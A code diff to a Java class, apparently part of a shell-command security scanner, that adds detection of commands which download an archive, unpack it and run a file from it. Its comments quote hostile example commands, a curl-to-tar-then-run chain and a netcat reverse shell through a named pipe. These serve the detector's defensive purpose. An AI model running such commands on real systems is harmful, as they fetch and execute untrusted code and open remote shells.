@@ -59,8 +59,16 @@ final class RemoteRules implements Family {
       firstReader = readsCodeFromInput(steps.get(i)) ? i : -1;
     }
     Set<String> downloaded = new HashSet<>();
+    boolean printedDownload = false; // a download to standard output, which a later step may read
+    boolean extracted = false; // an archive from the network unpacked: its files are unknown
     for (int i = 0; i < steps.size(); i++) {
       Step step = steps.get(i);
+      if (extracted && runsLocalFile(step)) {
+        scan.hit(DOWNLOAD_EXEC, step, null); // curl …/a.tgz | tar xz && ./a/install
+      }
+      if (isExtractor(step) && (printedDownload || unpacksDownload(step, downloaded))) {
+        extracted = true;
+      }
       reverseShell(scan, step);
       if (firstReader >= 0 && firstReader < i && readsNetwork(step) && !local(step)) {
         // cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f: a shell's input and output through a
@@ -109,6 +117,7 @@ final class RemoteRules implements Family {
         scan.hit(FETCH, step, null);
       }
       downloaded.addAll(savedAs(step));
+      printedDownload |= toStandardOutput(step);
       if (FileRules.reachedBy(step, "<(") && runner) {
         scan.hit(PROCESS_SUBSTITUTION, step, null);
       } else if ((FileRules.reachedBy(step, "$(") || FileRules.reachedBy(step, "`")) && runner) {
@@ -253,6 +262,55 @@ final class RemoteRules implements Family {
     for (Word w : args) {
       if (w.text().startsWith("https://") || w.text().startsWith("http://")) {
         return true;
+      }
+    }
+    return false;
+  }
+
+  /** Whether a program unpacks an archive: tar -x, unzip, bsdtar, 7z x, cpio -i. */
+  private static boolean isExtractor(Step step) {
+    return switch (step.program()) {
+      case "unzip", "bsdtar", "7z", "7za", "unrar", "cpio" -> true;
+      case "tar", "gtar" -> {
+        List<String> args = step.invocation().args();
+        String first = args.isEmpty() ? "" : args.get(0);
+        yield args.contains("--extract")
+            || args.contains("--get")
+            || !first.startsWith("--") && first.indexOf('x') >= 0;
+      }
+      default -> false;
+    };
+  }
+
+  /** Whether an extractor is given a file this command downloaded. */
+  private static boolean unpacksDownload(Step step, Set<String> downloaded) {
+    for (Word word : step.args()) {
+      if (downloaded.contains(base(word.text()))) {
+        return true;
+      }
+    }
+    return false;
+  }
+
+  /**
+   * Whether a program run is a file of a folder named relatively ({@code ./a/install}, {@code
+   * a/bin/tool}), or an interpreter given one: what an archive just unpacked may hold.
+   */
+  private static boolean runsLocalFile(Step step) {
+    List<Word> words = step.invocation().words();
+    if (words.isEmpty()) {
+      return false;
+    }
+    String first = words.get(0).text();
+    if (first.indexOf('/') > 0 || first.startsWith("./")) {
+      return true;
+    }
+    if (step.interpreter()) {
+      for (Word word : words.subList(1, words.size())) {
+        String t = word.text();
+        if (!t.startsWith("-")) {
+          return !t.startsWith("/");
+        }
       }
     }
     return false;
